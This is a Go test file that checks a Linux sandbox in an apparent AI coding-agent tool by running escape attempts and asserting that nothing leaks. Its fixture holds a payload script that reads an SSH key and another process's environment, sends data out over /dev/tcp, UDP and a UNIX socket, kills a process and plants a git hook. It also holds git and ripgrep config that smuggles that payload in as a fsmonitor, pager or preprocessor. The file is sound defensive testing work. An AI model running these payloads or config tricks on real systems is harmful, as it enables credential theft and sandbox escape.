//go:build linux

package shell

import (
	"bufio"
	"context"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/cairn-dev/cairn/tools/shell/sandbox"
	"github.com/cairn-dev/cairn/workspace"
)

// canaryMarks are strings that must never reach a command's output, its
// temporary directory or the workspace. The last one is in the command
// line of a process outside the sandbox: only a PID namespace hides it.
var canaryMarks = []string{"SSH-CANARY-7f3a", "OUTSIDE-CANARY-91bc", "ENV-CANARY-52de", "ARGV-CANARY-c0de"}

// requireSandbox skips where the sandbox cannot run, except under
// CI=true, where that fails the test (a missing kernel feature is a
// failure there, not a pass).
func requireSandbox(t *testing.T) sandbox.Status {
	t.Helper()
	st := sandbox.Probe()
	if !st.Available() {
		if os.Getenv("CI") == "true" {
			t.Fatalf("CI=true and the Landlock sandbox is not available: %v", st.Err)
		}
		t.Skipf("SKIP: the Landlock sandbox is not available on this system: %v", st.Err)
	}
	return st
}

// TestSandboxCanaries runs every command of testdata/escapes.txt for real
// (bash, real files) in both sandbox profiles and asserts that nothing
// outside the workspace was written, no canary was read, no listener was
// reached, .git was not changed, the read-only profile changed nothing at
// all, and a process outside the sandbox was not signalled.
func TestSandboxCanaries(t *testing.T) {
	st := requireSandbox(t)
	t.Log(st.Describe())
	if !st.Isolated() && os.Getenv("CI") == "true" {
		t.Fatalf("CI=true and commands cannot be isolated here: %v", st.NamespacesErr)
	}
	marks := canaryMarks
	if !st.Isolated() {
		// Host sockets, processes and daemons are asserted only where
		// commands get namespaces (elsewhere read commands ask).
		t.Logf("NOTE: no namespaces here (%v): host sockets and other processes' command lines are not asserted", st.NamespacesErr)
		marks = canaryMarks[:3]
	}
	// What an older kernel without user namespaces cannot stop is not
	// asserted there (docs/security.md says so); everything else is.
	for what, ok := range map[string]bool{"TCP": st.BlocksTCP(), "UDP": st.BlocksUDP(), "signals to outside processes": st.BlocksSignals()} {
		if !ok {
			t.Logf("NOTE: this system cannot keep sandboxed commands from %s; not asserted here", what)
		}
	}
	cmds := loadEscapes(t)
	if len(cmds) < 50 {
		t.Fatalf("escape corpus has %d commands, want at least 50", len(cmds))
	}

	// A TCP and a UDP listener that nothing may reach.
	tcp, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer tcp.Close()
	accepted := make(chan string, 100)
	go func() {
		for {
			c, err := tcp.Accept()
			if err != nil {
				close(accepted)
				return
			}
			buf := make([]byte, 64)
			n, _ := c.Read(buf)
			accepted <- string(buf[:n])
			c.Close()
		}
	}()
	udp, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	received := make(chan string, 100)
	go func() {
		buf := make([]byte, 64)
		for {
			n, _, err := udp.ReadFrom(buf)
			if err != nil {
				close(received)
				return
			}
			received <- string(buf[:n])
		}
	}()
	port := strconv.Itoa(tcp.Addr().(*net.TCPAddr).Port)
	uport := strconv.Itoa(udp.LocalAddr().(*net.UDPAddr).Port)

	// A host UNIX socket (a docker or D-Bus socket, an ssh agent) under
	// /run, which nothing may reach.
	sockDir, err := os.MkdirTemp("/run", "cairn-test-*")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(sockDir)
	sock := filepath.Join(sockDir, "bus")
	uln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer uln.Close()
	os.Chmod(sock, 0o777)
	sockReached := make(chan string, 100)
	go func() {
		for {
			c, err := uln.Accept()
			if err != nil {
				close(sockReached)
				return
			}
			buf := make([]byte, 64)
			n, _ := c.Read(buf)
			sockReached <- string(buf[:n])
			c.Close()
		}
	}()

	// A process outside the sandbox with a secret in its environment and
	// in its command line, standing in for the server.
	victim := exec.Command("sh", "-c", "sleep 3600; : "+canaryMarks[3])
	victim.Env = []string{"PATH=" + os.Getenv("PATH"), "SECRET=" + canaryMarks[2]}
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	victimDone := make(chan struct{})
	go func() { victim.Wait(); close(victimDone) }()
	defer victim.Process.Kill()
	vpid := strconv.Itoa(victim.Process.Pid)

	ran := 0
	for _, profile := range []sandbox.Profile{sandbox.ReadOnly, sandbox.WorkspaceWrite} {
		for _, line := range cmds {
			f := newCanaryFixture(t, port, uport, vpid)
			f.sock = sock
			cmd := f.expand(line.command)
			outBefore, homeBefore := snapshot(t, f.out), snapshot(t, f.home)
			wsBefore, gitBefore := snapshot(t, f.ws), snapshot(t, filepath.Join(f.ws, ".git"))
			protected, err := workspace.FindProtected(f.ws)
			if err != nil {
				t.Fatal(err)
			}
			protBefore := map[string]map[string]string{}
			for _, p := range protected {
				protBefore[p] = snapshot(t, p)
			}
			tmp := t.TempDir()
			class := Classify(cmd, Options{Workspace: f.ws}).Risk
			res, err := Run(context.Background(), RunOptions{
				Dir: f.ws, Command: cmd, Timeout: 60 * time.Second, Env: f.env(tmp), RevertProtected: profile == sandbox.WorkspaceWrite,
				Sandbox: &sandbox.Policy{Profile: profile, Workspace: f.ws, TempDir: tmp, Home: f.home, Caches: []string{}, Toolchains: []string{},
					Protected: protected, ProtectedNames: workspace.ProtectedRootNames},
			})
			if err != nil {
				t.Fatalf("line %d: %v", line.line, err)
			}
			if sandbox.Failed(res.ExitCode, res.Output) {
				t.Fatalf("line %d: the launcher failed: %s", line.line, res.Output)
			}
			ran++
			where := "line " + strconv.Itoa(line.line) + " (" + string(profile) + ", classified " + string(class) + "): " + cmd
			if !sameTree(outBefore, snapshot(t, f.out)) {
				t.Errorf("%s: changed the directory outside the workspace", where)
			}
			if !sameTree(homeBefore, snapshot(t, f.home)) {
				t.Errorf("%s: changed the fake home", where)
			}
			if !sameTree(gitBefore, snapshot(t, filepath.Join(f.ws, ".git"))) {
				t.Errorf("%s: changed .git", where)
			}
			for p, before := range protBefore {
				if !sameTree(before, snapshot(t, p)) {
					t.Errorf("%s: changed the protected %s", where, p)
				}
			}
			for _, name := range workspace.ProtectedRootNames {
				if _, err := os.Lstat(filepath.Join(f.ws, name)); err == nil && wsBefore[filepath.Join(f.ws, name)] == "" {
					t.Errorf("%s: created the protected %s", where, name)
				}
			}
			if st.Isolated() {
				if left := hostProcsWith(f.mark()); len(left) > 0 {
					t.Errorf("%s: processes outlived the command: %q", where, left)
				}
			}
			if profile == sandbox.ReadOnly && !sameTree(wsBefore, snapshot(t, f.ws)) {
				t.Errorf("%s: changed the workspace in the read-only profile", where)
			}
			if _, err := os.Lstat("/tmp/cairn-sandbox-escape-" + port); err == nil {
				os.Remove("/tmp/cairn-sandbox-escape-" + port)
				t.Errorf("%s: wrote to /tmp", where)
			}
			for _, m := range marks {
				if strings.Contains(res.Output, m) {
					t.Errorf("%s: a canary reached the output: %s", where, res.Output)
				}
				for p, content := range snapshot(t, tmp) {
					if strings.Contains(content, m) {
						t.Errorf("%s: a canary reached the temporary directory (%s)", where, p)
					}
				}
				for p, content := range snapshot(t, f.ws) {
					if strings.Contains(content, m) {
						t.Errorf("%s: a canary reached the workspace (%s)", where, p)
					}
				}
			}
			select {
			case <-victimDone:
				if st.BlocksSignals() {
					t.Fatalf("%s: the process outside the sandbox was killed", where)
				}
				t.Skipf("the victim was killed and signals cannot be blocked here (%s)", where)
			default:
			}
		}
	}

	// A marker connection and datagram go last: whatever a command sent
	// earlier would have been accepted or received before them.
	c, err := net.Dial("tcp4", tcp.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("MARKER"))
	c.Close()
	for got := range accepted {
		if got == "MARKER" {
			break
		}
		if st.BlocksTCP() {
			t.Errorf("the TCP listener was reached from the sandbox: %q", got)
		}
	}
	u, err := net.Dial("udp4", udp.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	u.Write([]byte("MARKER"))
	u.Close()
	for got := range received {
		if got == "MARKER" {
			break
		}
		if st.BlocksUDP() {
			t.Errorf("the UDP listener was reached from the sandbox: %q", got)
		}
	}
	uc, err := net.Dial("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	uc.Write([]byte("MARKER"))
	uc.Close()
	for got := range sockReached {
		if got == "MARKER" {
			break
		}
		if st.Isolated() {
			t.Errorf("the host UNIX socket was reached from the sandbox: %q", got)
		}
	}
	if err := victim.Process.Signal(syscall.Signal(0)); err != nil && st.BlocksSignals() {
		t.Errorf("the process outside the sandbox is gone: %v", err)
	}
	t.Logf("ran %d escape attempts", ran)
}

// TestSandboxCanariesSanity: the fixture's legitimate work succeeds in
// the sandbox, so the escape test is not passing because everything fails.
func TestSandboxCanariesSanity(t *testing.T) {
	requireSandbox(t)
	f := newCanaryFixture(t, "1", "1", "1")
	tmp := t.TempDir()
	for profile, cmd := range map[sandbox.Profile]string{
		sandbox.ReadOnly:       "cat main.go && git status --short && git log --oneline | wc -l && echo t > $TMPDIR/t && cat $TMPDIR/t",
		sandbox.WorkspaceWrite: "echo x >> main.go && mkdir -p src/build && echo y > src/build/out && git diff --stat",
	} {
		res, err := Run(context.Background(), RunOptions{Dir: f.ws, Command: cmd, Env: f.env(tmp),
			Sandbox: &sandbox.Policy{Profile: profile, Workspace: f.ws, TempDir: tmp, Home: f.home, Caches: []string{}, Toolchains: []string{}}})
		if err != nil || res.ExitCode != 0 {
			t.Errorf("%s: %q failed: %v %d\n%s", profile, cmd, err, res.ExitCode, res.Output)
		}
	}
}

type escapeLine struct {
	line    int
	command string
}

func loadEscapes(t *testing.T) []escapeLine {
	t.Helper()
	fh, err := os.Open(filepath.Join("testdata", "escapes.txt"))
	if err != nil {
		t.Fatal(err)
	}
	defer fh.Close()
	var out []escapeLine
	sc := bufio.NewScanner(fh)
	for n := 1; sc.Scan(); n++ {
		l := sc.Text()
		if strings.TrimSpace(l) == "" || strings.HasPrefix(l, "#") {
			continue
		}
		out = append(out, escapeLine{n, strings.ReplaceAll(l, "⏎", "\n")})
	}
	return out
}

type canaryFixture struct {
	ws, out, home string
	port, uport   string
	victim        string
	sock          string
}

// mark is a number in the command lines of the daemons escapes.txt
// starts ({MARK}), unique to the test run.
func (f canaryFixture) mark() string { return "9" + f.port + "7" }

// hostProcsWith lists the host's processes whose command line contains s.
func hostProcsWith(s string) []string {
	entries, _ := os.ReadDir("/proc")
	var out []string
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if line := strings.ReplaceAll(string(b), "\x00", " "); err == nil && strings.Contains(line, s) {
			out = append(out, e.Name()+": "+line)
		}
	}
	return out
}

func newCanaryFixture(t *testing.T, port, uport, victim string) canaryFixture {
	t.Helper()
	base := t.TempDir()
	f := canaryFixture{ws: filepath.Join(base, "ws"), out: filepath.Join(base, "outside"), home: filepath.Join(base, "home"),
		port: port, uport: uport, victim: victim}
	write := func(p, content string, mode os.FileMode) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(f.expand(content)), mode); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(f.out, "canary"), canaryMarks[1]+"\n", 0o644)
	write(filepath.Join(f.home, ".ssh", "id_rsa"), canaryMarks[0]+"\n", 0o600)
	write(filepath.Join(f.home, ".gitconfig"), "[user]\n\tname = canary\n", 0o644)
	write(filepath.Join(f.ws, "main.go"), "package main\n", 0o644)
	write(filepath.Join(f.ws, "src", "lib.go"), "package src\n", 0o644)
	// Files that change the agent's, git's or the editor's powers.
	write(filepath.Join(f.ws, ".cairn", "policy.json"), "{}\n", 0o644)
	write(filepath.Join(f.ws, ".vscode", "settings.json"), "{}\n", 0o644)
	write(filepath.Join(f.ws, ".github", "workflows", "ci.yml"), "on: push\n", 0o644)
	write(filepath.Join(f.ws, ".envrc"), "export A=1\n", 0o644)
	// An embedded bare repository shipped as plain files, whose config
	// runs the payload as core.fsmonitor for `git -C vendor/dep status`.
	write(filepath.Join(f.ws, "vendor", "dep", "HEAD"), "ref: refs/heads/main\n", 0o644)
	write(filepath.Join(f.ws, "vendor", "dep", "config"), "[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = {PAYLOAD}\n", 0o644)
	write(filepath.Join(f.ws, "vendor", "dep", "objects", "info", "packs"), "", 0o644)
	write(filepath.Join(f.ws, "vendor", "dep", "refs", "heads", ".keep"), "", 0o644)
	// The payload tries everything at once; the workspace's .gitconfig and
	// ripgrep configuration run it.
	write(filepath.Join(f.ws, "payload.sh"), `#!/bin/sh
touch {OUT}/pwned
echo pwned >> {OUT}/canary
cat {HOME}/.ssh/id_rsa {OUT}/canary /proc/{VICTIM}/environ
cat {HOME}/.ssh/id_rsa > stolen-key
(exec 3<>/dev/tcp/127.0.0.1/{PORT} && echo PAYLOAD >&3) 2>/dev/null
(echo PAYLOAD > /dev/udp/127.0.0.1/{UPORT}) 2>/dev/null
kill -TERM {VICTIM}
perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Peer => "{SOCK}") and print $s "PAYLOAD"' 2>/dev/null
echo 'touch {OUT}/hook-ran' > .git/hooks/post-checkout
chmod +x .git/hooks/post-checkout
echo ran-payload
`, 0o755)
	write(filepath.Join(f.ws, ".gitconfig"), "[core]\n\tfsmonitor = {PAYLOAD}\n\tpager = {PAYLOAD}\n", 0o644)
	write(filepath.Join(f.ws, ".rgrc"), "--pre={PAYLOAD}\n", 0o644)
	git := func(args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir = f.ws
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + f.home, "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"}
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	if _, err := exec.LookPath("git"); err == nil {
		git("init", "-q")
		git("add", "main.go")
		git("commit", "-q", "-m", "init")
	} else {
		write(filepath.Join(f.ws, ".git", "hooks", "README"), "no git here\n", 0o644)
		write(filepath.Join(f.ws, ".git", "config"), "[core]\n", 0o644)
	}
	return f
}

func (f canaryFixture) expand(s string) string {
	rel, _ := filepath.Rel(f.ws, f.out)
	return strings.NewReplacer("{PAYLOAD}", filepath.Join(f.ws, "payload.sh"), "{OUTREL}", rel, "{OUT}", f.out,
		"{HOME}", f.home, "{PORT}", f.port, "{UPORT}", f.uport, "{VICTIM}", f.victim, "{SOCK}", f.sock, "{MARK}", f.mark()).Replace(s)
}

func (f canaryFixture) env(tmp string) []string {
	return []string{"PATH=" + os.Getenv("PATH"), "HOME=" + f.home, "TMPDIR=" + tmp, "LANG=C",
		"EVIL=" + filepath.Join(f.ws, "payload.sh"), "GIT_PAGER=cat", "PAGER=cat"}
}

// snapshot maps every path below root to its content (or link target, or
// "dir", with its mode).
func snapshot(t *testing.T, root string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		info, err := d.Info()
		if err != nil {
			return nil
		}
		switch {
		case d.Type()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			out[p] = "link:" + target
		case d.IsDir():
			out[p] = "dir " + info.Mode().String()
		default:
			b, _ := os.ReadFile(p)
			out[p] = info.Mode().String() + " " + string(b)
		}
		return nil
	})
	return out
}

func sameTree(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

// TestRunSandboxedTimeout: a sandboxed command that ignores SIGTERM is
// killed after the grace period with everything it started, and Run
// reports the signal that ended it (the launcher, as PID 1, outlives it
// to say how it ended).
func TestRunSandboxedTimeout(t *testing.T) {
	requireSandbox(t)
	ws, tmp := t.TempDir(), t.TempDir()
	res, err := runWithin(t, context.Background(), RunOptions{
		Dir:       ws,
		Command:   `trap '' TERM; echo started; sleep 3600 & wait; sleep 3600`,
		Timeout:   time.Second,
		KillGrace: 300 * time.Millisecond,
		Env:       testEnv(),
		Sandbox:   &sandbox.Policy{Profile: sandbox.ReadOnly, Workspace: ws, TempDir: tmp, Caches: []string{}, Toolchains: []string{}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if !res.TimedOut || res.Signal == "" {
		t.Fatalf("want timed out and killed by a signal: %+v", res)
	}
	// Without a trap, SIGTERM ends the shell: the launcher reports it.
	res, err = runWithin(t, context.Background(), RunOptions{
		Dir: ws, Command: `echo started; sleep 3600`, Timeout: time.Second, Env: testEnv(),
		Sandbox: &sandbox.Policy{Profile: sandbox.ReadOnly, Workspace: ws, TempDir: tmp, Caches: []string{}, Toolchains: []string{}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if !res.TimedOut || res.Signal != "terminated" || res.ExitCode != -1 {
		t.Fatalf("want ended by SIGTERM: %+v", res)
	}
}
